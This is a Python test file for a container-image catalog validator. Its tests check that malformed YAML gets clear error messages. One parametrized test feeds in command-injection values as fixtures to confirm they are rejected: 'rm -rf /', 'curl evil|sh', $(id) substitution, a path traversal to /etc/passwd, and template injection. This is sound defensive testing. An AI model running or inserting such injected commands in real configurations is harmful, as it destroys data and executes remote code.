"""Bad input: one clear message naming file, field (and line), exit status 2, no traceback."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest

from imagekit.errors import ImagekitError
from imagekit.resolve import load_catalog


def problems(project: Path) -> list[str]:
    with pytest.raises(ImagekitError) as info:
        load_catalog(project / "catalog.yaml")
    return [str(p) for p in info.value.problems]


def edit(path: Path, old: str, new: str) -> None:
    text = path.read_text()
    assert old in text, f"{old!r} not in {path}"
    path.write_text(text.replace(old, new, 1))


def test_the_shipped_catalog_is_valid(project: Path) -> None:
    load_catalog(project / "catalog.yaml")


def test_unknown_key_names_file_line_and_suggests(project: Path) -> None:
    edit(project / "stacks/scipy.yaml", "pip:", "pipp:")
    (msg,) = problems(project)
    assert "stacks/scipy.yaml:" in msg
    assert "pipp: unknown key 'pipp'" in msg
    assert "did you mean pip?" in msg


def test_unknown_nested_key(project: Path) -> None:
    edit(project / "stacks/base.yaml", "healthcheck: {path: /api,", "healthcheck: {pth: /api,")
    (msg,) = problems(project)
    assert "healthcheck.pth: unknown key 'pth'" in msg and "did you mean path?" in msg


def test_wrong_type(project: Path) -> None:
    edit(project / "stacks/base.yaml", "port: 8888", "port: lots")
    (msg,) = problems(project)
    assert "stacks/base.yaml:" in msg and "port:" in msg and "'lots'" in msg


def test_missing_required_field(project: Path) -> None:
    edit(project / "catalog.yaml", "namespace: imagekit\n", "")
    (msg,) = problems(project)
    assert "catalog.yaml" in msg and "namespace: required field is missing" in msg


def test_unknown_parent_suggests(project: Path) -> None:
    edit(project / "stacks/pytorch.yaml", "extends: scipy", "extends: scpy")
    (msg,) = problems(project)
    assert "stacks/pytorch.yaml: extends: unknown parent stack 'scpy'" in msg
    assert "did you mean scipy?" in msg


def test_inheritance_cycle(project: Path) -> None:
    edit(project / "stacks/scipy.yaml", "extends: base", "extends: pytorch")
    msgs = problems(project)
    assert any("inheritance cycle" in m and "scipy" in m and "pytorch" in m for m in msgs)


def test_root_stack_must_set_runtime(project: Path) -> None:
    edit(project / "stacks/base.yaml", "port: 8888\n", "")
    (msg,) = problems(project)
    assert "stacks/base.yaml: port: the root stack (no 'extends') must set it" in msg


def test_unknown_profile_in_image(project: Path) -> None:
    edit(project / "catalog.yaml", "profiles: [slurm-host]", "profiles: [slurm-hots]")
    (msg,) = problems(project)
    assert "images[2].profiles[0]: unknown profile 'slurm-hots'" in msg
    assert "did you mean slurm-host?" in msg
    assert "catalog.yaml:" in msg


def test_unknown_stack_in_image(project: Path) -> None:
    edit(project / "catalog.yaml", "  - stack: pyspark", "  - stack: pyspork")
    (msg,) = problems(project)
    assert "stack: unknown stack 'pyspork'" in msg and "did you mean pyspark?" in msg


def test_duplicate_image_names(project: Path) -> None:
    edit(project / "catalog.yaml", "name: scipy-kubeflow", "name: scipy-hpc")
    (msg,) = problems(project)
    assert "duplicate image name 'scipy-hpc'" in msg


def test_duplicate_yaml_key(project: Path) -> None:
    edit(project / "stacks/r.yaml", "extends: base\n", "extends: base\nextends: scipy\n")
    (msg,) = problems(project)
    assert "stacks/r.yaml:4: extends: duplicate key" in msg


def test_bad_base_image_reference(project: Path) -> None:
    edit(project / "catalog.yaml", "image: imagekit/debian:bookworm",
         "image: Imagekit/Debian bookworm")
    (msg,) = problems(project)
    assert "base.image" in msg and "not a valid image reference" in msg


def test_default_must_match_the_notebook_type(project: Path) -> None:
    edit(project / "catalog.yaml", "code-server: vscode", "code-server: scipy")
    (msg,) = problems(project)
    assert "defaults.code-server: image 'scipy' is of type 'jupyter'" in msg


def test_profiles_need_a_name_of_their_own(project: Path) -> None:
    edit(project / "catalog.yaml", "  - stack: r\n", "  - stack: r\n    profiles: [kubeflow]\n")
    (msg,) = problems(project)
    assert "an image with profiles needs a name of its own" in msg


def test_missing_file_source(project: Path) -> None:
    edit(project / "stacks/base.yaml", "src: base/start-notebook.sh", "src: base/nope.sh")
    (msg,) = problems(project)
    assert "files[0].src" in msg and "does not exist" in msg


def test_invalid_yaml(project: Path) -> None:
    (project / "stacks/r.yaml").write_text("description: [unclosed\n")
    (msg,) = problems(project)
    assert "stacks/r.yaml" in msg and "not valid YAML" in msg


def test_every_problem_is_reported_at_once(project: Path) -> None:
    edit(project / "stacks/scipy.yaml", "pip:", "pipp:")
    edit(project / "stacks/r.yaml", "extends: base", "extends: bas")
    assert len(problems(project)) == 2


@pytest.mark.parametrize(
    ("file", "old", "new", "field"),
    [
        ("stacks/scipy.yaml", "  - numpy\n", "  - 'numpy; rm -rf /'\n", "pip[0]"),
        ("stacks/scipy.yaml", "  - numpy\n", "  - numpy$(id)\n", "pip[0]"),
        ("stacks/r.yaml", "  - r-base-core\n", "  - 'r-base-core && curl evil|sh'\n", "apt[0]"),
        ("stacks/vscode.yaml", "  - code-server@4.139.1\n", "  - 'code-server;reboot'\n",
         "npm[0]"),
        ("stacks/base.yaml", "SHELL: /bin/bash", 'SHELL: "/bin/bash`id`"', "env.SHELL"),
        ("stacks/base.yaml", "SHELL: /bin/bash", "SHELL: $(id)", "env.SHELL"),
        ("stacks/base.yaml", "NB_USER: jovyan", "'NB USER': jovyan", "env.NB USER"),
        ("stacks/vscode.yaml", "NODE_VERSION: 24.21.0", "NODE_VERSION: 24.21.0 && id",
         "args.NODE_VERSION"),
        ("stacks/base.yaml", "dest: /usr/local/bin/start-notebook.sh",
         "dest: /usr/local/bin/../../etc/passwd", "files[0].dest"),
        ("stacks/base.yaml", "command: [start-notebook.sh]", "command: ['start; id']",
         "command[0]"),
        ("stacks/r.yaml", "IRkernel::installspec", "{{ evil }}", "post[0]"),
        ("stacks/scipy.yaml", "extends: base", "extends: base\npost: ['%runscript']",
         "post[0]"),
    ],
)
def test_injection_attempts_are_rejected(project: Path, file: str, old: str, new: str,
                                         field: str) -> None:
    edit(project / file, old, new)
    msgs = problems(project)
    assert any(file in m and f" {field}: " in m for m in msgs), msgs


def test_cli_reports_problems_with_status_2_and_no_traceback(
    project: Path, cli: Callable[..., tuple[int, str]]
) -> None:
    edit(project / "stacks/scipy.yaml", "pip:", "pipp:")
    code, output = cli("validate", "--catalog", str(project / "catalog.yaml"))
    assert code == 2
    assert "error:" in output and "unknown key 'pipp'" in output
    assert "Traceback" not in output


def test_render_of_a_bad_catalog_writes_nothing(
    project: Path, cli: Callable[..., tuple[int, str]]
) -> None:
    import shutil

    shutil.rmtree(project / "recipes")
    edit(project / "stacks/scipy.yaml", "pip:", "pipp:")
    code, _ = cli("render", "--all", "--catalog", str(project / "catalog.yaml"))
    assert code == 2
    assert not (project / "recipes").exists()


def test_missing_catalog(tmp_path: Path, cli: Callable[..., tuple[int, str]]) -> None:
    code, output = cli("validate", "--catalog", str(tmp_path / "nope.yaml"))
    assert code == 2 and "catalog file not found" in output


def test_batchspawner_needs_a_sif(project: Path) -> None:
    edit(project / "catalog.yaml", "  - stack: r\n",
         "  - stack: r\n    consumers: [batchspawner]\n")
    (msg,) = problems(project)
    assert "catalog.yaml:" in msg and "consumers: batchspawner runs SIFs" in msg


def test_unknown_consumer_lists_the_known_ones(project: Path) -> None:
    edit(project / "catalog.yaml", "  - stack: r\n", "  - stack: r\n    consumers: [kubespawnr]\n")
    (msg,) = problems(project)
    assert "catalog.yaml:" in msg and "consumers" in msg and "kubespawnr" in msg
    assert "'kubespawner'" in msg


@pytest.mark.parametrize("value", ["lots", "-1", "0"])
def test_cpu_must_be_a_positive_quantity(project: Path, value: str) -> None:
    edit(project / "catalog.yaml", "jupyter: {cpu: 1,", f"jupyter: {{cpu: '{value}',")
    (msg,) = problems(project)
    assert "catalog.yaml:" in msg and "resources.jupyter.cpu" in msg and "CPU quantity" in msg


def test_memory_must_be_a_quantity(project: Path) -> None:
    edit(project / "catalog.yaml", "resources: {cpu: 4, memory: 16Gi",
         "resources: {cpu: 4, memory: 16 GB")
    (msg,) = problems(project)
    assert "memory" in msg and "not a memory quantity" in msg


# --- platforms --------------------------------------------------------------------------

def _platforms(project: Path, catalog: str) -> None:
    edit(project / "catalog.yaml", "\nplatforms: [linux/amd64]\n", f"\nplatforms: [{catalog}]\n")


def test_an_image_can_only_narrow_the_catalogs_platforms(project: Path) -> None:
    _platforms(project, "linux/amd64")
    edit(project / "catalog.yaml", "  - stack: pytorch-cuda\n",
         "  - stack: pytorch-cuda\n    platforms: [linux/arm64]\n")
    (msg,) = problems(project)
    assert "catalog.yaml:" in msg and "images[5].platforms: linux/arm64 is not among the " \
        "catalog's platforms (linux/amd64)" in msg


def test_a_child_cannot_be_built_for_a_platform_its_parent_is_not(project: Path) -> None:
    _platforms(project, "linux/amd64, linux/arm64")
    edit(project / "catalog.yaml", "  - stack: scipy\n",
         "  - stack: scipy\n    platforms: [linux/amd64]\n")
    found = problems(project)
    # Every image FROM scipy but pytorch, which the catalog builds for amd64 only: its two
    # profiled images, pytorch-cuda and pyspark.
    assert len(found) == 4
    assert "images[2].platforms: image 'scipy-hpc' is built FROM 'scipy', which is not built " \
        "for linux/arm64" in found[0]
    assert "images[9].platforms: image 'pyspark'" in found[3]


def test_an_unknown_platform_names_the_ones_there_are(project: Path) -> None:
    _platforms(project, "linux/riscv64")
    (msg,) = problems(project)
    assert "platforms[0]" in msg and "linux/amd64" in msg and "linux/arm64" in msg


def test_platforms_keep_the_catalogs_order_and_name_local_tags(project: Path) -> None:
    _platforms(project, "linux/amd64, linux/arm64")
    edit(project / "catalog.yaml", "  - stack: pytorch-cuda\n",
         "  - stack: pytorch-cuda\n    platforms: [linux/amd64]\n")
    catalog = load_catalog(project / "catalog.yaml")
    assert catalog.platforms == ("linux/amd64", "linux/arm64")
    assert catalog.images["scipy"].platforms == ("linux/amd64", "linux/arm64")
    assert catalog.images["pytorch-cuda"].platforms == ("linux/amd64",)
    assert catalog.ref("scipy", platform="linux/arm64") == \
        "127.0.0.1:5055/imagekit/scipy:latest-arm64"
    assert catalog.ref("scipy", platform="linux/amd64") == "127.0.0.1:5055/imagekit/scipy:latest"
    assert catalog.base_ref("linux/arm64") == "imagekit/debian:bookworm-arm64"
    assert catalog.parent_ref(catalog.images["base"], "linux/arm64") == \
        "imagekit/debian:bookworm-arm64"


def test_a_sif_level_beyond_its_compressions_is_refused(project: Path) -> None:
    edit(project / "catalog.yaml", "\nplatforms: [linux/amd64]\n",
         "\nplatforms: [linux/amd64]\nsif: {level: 12}\n")
    (msg,) = problems(project)
    assert "catalog.yaml:" in msg and "sif.level: 12 is not a gzip level (1-9)" in msg
    edit(project / "catalog.yaml", "sif: {level: 12}", "sif: {compression: zstd, level: 12}")
    assert load_catalog(project / "catalog.yaml").sif_level == 12
    edit(project / "catalog.yaml", "compression: zstd", "compression: xz")
    (msg,) = problems(project)
    assert "sif.compression" in msg and "'gzip' or 'zstd'" in msg


def test_a_layer_level_is_zstds_alone(project: Path) -> None:
    edit(project / "catalog.yaml", "\nplatforms: [linux/amd64]\n",
         "\nplatforms: [linux/amd64]\nlayers: {level: 5}\n")
    (msg,) = problems(project)
    assert "catalog.yaml:" in msg and "layers.level: a level is for zstd layers" in msg
    edit(project / "catalog.yaml", "layers: {level: 5}", "layers: {compression: zstd, level: 5}")
    loaded = load_catalog(project / "catalog.yaml")
    assert (loaded.layer_compression, loaded.layer_level) == ("zstd", 5)
    edit(project / "catalog.yaml", "level: 5}", "level: 20}")
    (msg,) = problems(project)
    assert "layers.level" in msg and "19" in msg
    edit(project / "catalog.yaml", "compression: zstd, level: 20", "compression: xz")
    (msg,) = problems(project)
    assert "layers.compression" in msg and "'gzip' or 'zstd'" in msg
